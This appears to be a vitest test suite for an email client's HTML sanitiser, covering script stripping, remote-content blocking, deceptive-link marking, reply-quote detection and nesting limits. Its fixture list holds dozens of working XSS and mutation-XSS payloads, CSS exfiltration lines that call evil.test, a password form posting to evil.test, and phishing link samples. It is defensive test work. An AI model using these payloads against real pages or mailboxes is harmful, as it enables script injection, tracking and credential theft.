import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { sanitiseHtml, showRemoteContent } from './html';
import { limitHtml, MAX_DEPTH } from './html-limits';

const clean = (html: string): string => sanitiseHtml(html).html;

/** Everything that a browser could run or load, looked for in parsed form. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag(name, attribs) {
      if (
        /^(?:script|iframe|object|embed|svg|math|form|input|button|link|meta|base|template|noscript|video|audio|frame|applet)$/.test(
          name,
        )
      ) {
        found.push(`<${name}>`);
      }
      for (const [key, value] of Object.entries(attribs)) {
        if (key.startsWith('on') || key === 'srcdoc' || key === 'id' || key === 'name' || key === 'formaction')
          found.push(`${name} ${key}`);
        if (
          /^(?:href|src)$/.test(key) &&
          !/^(?:https?:|mailto:|tel:|data:image\/(?:png|gif|jpe?g|webp|bmp);)/.test(value)
        ) {
          found.push(`${name} ${key}=${value}`);
        }
        if (key === 'src' && /^https?:/.test(value)) found.push(`${name} loads ${value}`);
        if (key === 'style' && /url|expression|@|\\|position|behavior/i.test(value))
          found.push(`${name} style=${value}`);
        if (/^(?:srcset|background|poster)$/.test(key)) found.push(`${name} ${key}`);
      }
    },
  });
  parser.write(html);
  parser.end();
  return found;
}

const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnErRoR="alert(1)"/>',
  '<img/src=x/onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#0;script:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" \u200bjavascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.test/x">x</a><a href="file:///etc/passwd">y</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<base href="https://evil.test/"><a href="/x">x</a>',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<form action="https://evil.test"><input name=password><button formaction="javascript:alert(1)">Log in</button></form>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="background:\\75rl(https://evil.test/x)">x</div>',
  '<div style="background:u/**/rl(https://evil.test/x)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
  '<div style="-moz-binding:url(https://evil.test/x.xml#a);behavior:url(x.htc)">x</div>',
  '<style>@import "https://evil.test/x.css";</style>',
  '<style>@import url(https://evil.test/x.css); p{color:red}</style>',
  '<style>p{background:url(https://evil.test/x.png)}</style>',
  '<style></style><img src=x onerror=alert(1)></style>',
  '<style>p:before{content:"</style><script>alert(1)</script>"}</style>',
  '<style>a[href^="https://bank"]{background-image:url("https://evil.test/?leak")}</style>',
  '<table background="https://evil.test/x.png"><tr><td>x</td></tr></table>',
  '<video poster="https://evil.test/x.png" src="https://evil.test/x.mp4"></video>',
  '<picture><source srcset="https://evil.test/a.png"><img srcset="https://evil.test/b.png 2x"></picture>',
  '<img src="https://evil.test/pixel.gif?u=1"><img src="//evil.test/p.gif"><img src="HTTPS://EVIL.test/p.gif">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<input type=image src="https://evil.test/x">',
  '<a id="document" name="cookie">x</a>',
  '<div data-remote-src="javascript:alert(1)" data-remote-style="x" data-quote="block">x</div>',
  '<!--[if gte mso 9]><script>alert(1)</script><![endif]--><p>x</p>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>',
  '<textarea><script>alert(1)</script></textarea><option><img src=x onerror=alert(1)></option>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '"><script>alert(1)</script>',
  '<img title="a onerror=alert(1) data-remote-src=&quot;x&quot; &gt;<script>" src="https://evil.test/i.png">',
  '<p title=\'" onmouseover="alert(1)\'>x</p>',
];

describe('hostile HTML', () => {
  it.each(HOSTILE)('runs and loads nothing: %s', (html) => {
    expect(dangers(clean(html))).toEqual([]);
  });

  it.each(HOSTILE)('runs nothing even when remote content is shown: %s', (html) => {
    const shown = showRemoteContent(clean(html));
    const left = dangers(shown).filter(
      (danger) => !danger.includes('loads http') && !/style=.*url\("https:/.test(danger),
    );
    expect(left).toEqual([]);
  });

  it('stays harmless in any mixture, and cleaning twice changes nothing more', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.oneof(fc.constantFrom(...HOSTILE), fc.string(), fc.constantFrom('<', '>', '"', '</', '<!--', '-->')),
          { maxLength: 8 },
        ),
        (pieces) => {
          const once = clean(pieces.join(''));
          expect(dangers(once)).toEqual([]);
          expect(dangers(clean(once))).toEqual([]);
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe('remote content', () => {
  it('is parked, counted and can be put in place', () => {
    const mail =
      '<style>td{background:url(https://cdn.test/bg.png);color:red}@font-face{font-family:X;src:url(https://cdn.test/x.woff2)}</style>' +
      '<img src="https://cdn.test/a.png?x=1&amp;y=2" alt="A"><td background="https://cdn.test/b.png" style="color:blue">' +
      `<p style='background-image:url("https://cdn.test/c.png")'>text data-remote-src="x"</p>`;
    const parked = sanitiseHtml(mail);
    expect(parked).toMatchObject({ hasRemoteContent: true, blocked: 4 });
    expect(dangers(parked.html)).toEqual([]);
    expect(parked.html).toContain('td{color:red}');
    const shown = showRemoteContent(parked.html);
    for (const url of ['a.png?x=1&amp;y=2', 'b.png', 'c.png', 'bg.png', 'x.woff2'])
      expect(shown).toContain(`https://cdn.test/${url}`);
    expect(shown).toContain('text data-remote-src="x"');
    expect(shown).not.toMatch(/<[^>]*data-remote/);
    expect(sanitiseHtml(mail, { showRemote: true }).html).toBe(shown);
  });

  it('is not claimed for a mail that has none', () => {
    const mail =
      '<p style="color:red">Hi <a href="https://example.test/">there</a><img src="cid:logo@x"><img src="data:image/png;base64,AAAA"></p>';
    expect(sanitiseHtml(mail)).toMatchObject({ hasRemoteContent: false, blocked: 0, truncated: false });
  });
});

describe('pictures of the mail itself', () => {
  it('get their address, or keep their content id for whoever has it', () => {
    const mail = '<img src="cid:logo%40x">';
    expect(clean(mail)).toBe('<img data-cid="logo@x" />');
    expect(
      sanitiseHtml(mail, { cidUrls: new Map([['logo@x', '/api/mailAttachments:download?filterByTk=5']]) }).html,
    ).toContain('src="/api/mailAttachments:download?filterByTk=5"');
  });
});

describe('links', () => {
  it.each([
    ['<a href="https://evil.test/login">https://bank.test/login</a>', 'data-link="mismatch"'],
    ['<a href="https://evil.test/"><b>www.bank</b>.test</a>', 'data-link="mismatch"'],
    ['<a href="https://evil.test/">bank\u200b.\u202etest</a>', 'data-link="mismatch"'],
    ['<a href="https://bаnk.test/">Bank</a>', 'data-link="punycode"'],
    ['<a href="https://bank.test@evil.test/">bank.test</a>', 'data-link="mismatch"'],
  ])('that pretend are marked: %s', (html, mark) => {
    expect(clean(html)).toContain(mark);
  });

  it.each([
    '<a href="https://www.bank.test/login">bank.test</a>',
    '<a href="https://bank.test/">Click here.</a>',
    '<a href="https://bank.test/">Version 2.0</a>',
    '<a href="mailto:a@bank.test">a@bank.test</a>',
  ])('that are honest are not: %s', (html) => {
    expect(clean(html)).not.toContain('data-link');
  });

  it('open elsewhere, tell nobody where they were, and show their host', () => {
    expect(clean('<a href="https://user@EXAMPLE.test/a b?x=1&y=2" target="_top" rel="opener">x</a>')).toBe(
      '<a href="https://user@example.test/ab?x=1&amp;y=2" rel="noopener noreferrer nofollow" target="_blank" data-host="example.test">x</a>',
    );
  });
});

describe('layout', () => {
  it('of ordinary newsletters survives', () => {
    const mail =
      '<html><head><title>T</title><style>@media (max-width:600px){.col{width:100%!important}}</style></head>' +
      '<body bgcolor="#ffffff" style="margin:0;font-family:&quot;Segoe UI&quot;,Arial"><center><table width="600" cellpadding="0" cellspacing="0" align="center">' +
      '<tr><td class="col" valign="top" style="padding:10px 20px;color:#333;background-color:rgb(1,2,3)"><h1>News</h1><ul><li>One<li>Two</ul></td></tr></table></center></body></html>';
    const html = clean(mail);
    for (const piece of [
      'width="600"',
      'cellpadding="0"',
      'padding:10px 20px',
      'background-color:rgb(1,2,3)',
      '@media (max-width:600px){.col{width:100% !important}}',
      'bgcolor="#ffffff"',
      'class="mail-body"',
      '<li>One</li>',
    ]) {
      expect(html).toContain(piece);
    }
    expect(html).not.toContain('<title');
    expect(html).toContain('&quot;Segoe UI&quot;');
  });
});

describe('quotations', () => {
  const quotedIn = (html: string): string[] =>
    [...clean(html).matchAll(/data-quote="(\w+)"/g)].map((match) => match[1] ?? '');

  it.each([
    [
      'Gmail',
      '<div>Yes.</div><div class="gmail_quote"><div class="gmail_attr">On Mon, Ann wrote:</div><blockquote class="gmail_quote">Shall we?</blockquote></div>',
      ['block'],
    ],
    [
      'Thunderbird',
      '<p>Yes.</p><div class="moz-cite-prefix">Am Montag schrieb Ann:</div><blockquote type="cite">Shall we?</blockquote>',
      ['intro', 'block'],
    ],
    ['Apple Mail', 'Yes.<br><blockquote type="cite"><div>On Monday, Ann wrote:</div>Shall we?</blockquote>', ['block']],
    [
      'Outlook on the web',
      '<div>Yes.</div><hr><div id="divRplyFwdMsg"><b>From:</b> Ann</div><div>Shall we?</div>',
      ['rest'],
    ],
    [
      'Outlook',
      '<p>Yes.</p><div><div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm"><b>Von:</b> Ann</div></div><p>Shall we?</p>',
      ['rest'],
    ],
  ])('of %s are marked once', (_name, html, expected) => {
    expect(quotedIn(html)).toEqual(expected);
  });

  it.each([
    [
      'a forwarded mail',
      '<div>See below.</div><div class="gmail_quote"><div class="gmail_attr">---------- Forwarded message ---------<br>From: Ann</div>News</div>',
    ],
    ['an answer below the question', '<blockquote type="cite">Shall we?</blockquote><p>Yes.</p>'],
    ['answers between the questions', '<p>Hi</p><blockquote type="cite">A?</blockquote><p>Yes.</p>'],
    ['a mail that is nothing but a quotation', '<div><br></div><blockquote type="cite">Shall we?</blockquote>'],
    ['a quotation from a book', '<p>As he said:</p><blockquote>To be</blockquote>'],
  ])('are not folded in %s', (_name, html) => {
    expect(quotedIn(html)).toEqual([]);
  });
});

describe('size', () => {
  const nested = (levels: number): string => '<table><tr><td>x'.repeat(levels) + '</td></tr></table>'.repeat(levels);

  it('of nested tables costs work in proportion to the length', () => {
    const small = limitHtml(nested(20_000));
    const large = limitHtml(nested(150_000));
    expect(nested(150_000).length).toBeGreaterThan(5_000_000);
    expect(large.steps / small.steps).toBeLessThan(1.1 * 7.5);
    expect(large.truncated).toBe(true);
  });

  it.each([
    ['tables', nested(2_000)],
    [
      'paragraphs that the parser closes by itself',
      '<p><div>'.repeat(150) + '</p>'.repeat(100) + '<div>'.repeat(1_000) + 'x',
    ],
    ['unclosed spans', '<span>'.repeat(5_000) + 'the end'],
  ])('is bounded in depth for %s, and the text is kept', (_name, html) => {
    const limited = limitHtml(html).html;
    let depth = 0;
    let deepest = 0;
    const parser = new Parser({
      onopentagname: () => (deepest = Math.max(deepest, ++depth)),
      onclosetag: () => depth--,
    });
    parser.write(limited);
    parser.end();
    expect(deepest).toBeLessThanOrEqual(MAX_DEPTH + 1);
    const text = (value: string): string => value.replace(/<[^>]*>|\s/g, '');
    expect(text(limited)).toBe(text(html));
  });

  it('of many unclosed items in a list is no reason to cut anything', () => {
    const list = `<ul>${'<li>item'.repeat(5_000)}</ul>`;
    expect(sanitiseHtml(list).truncated).toBe(false);
  });
});
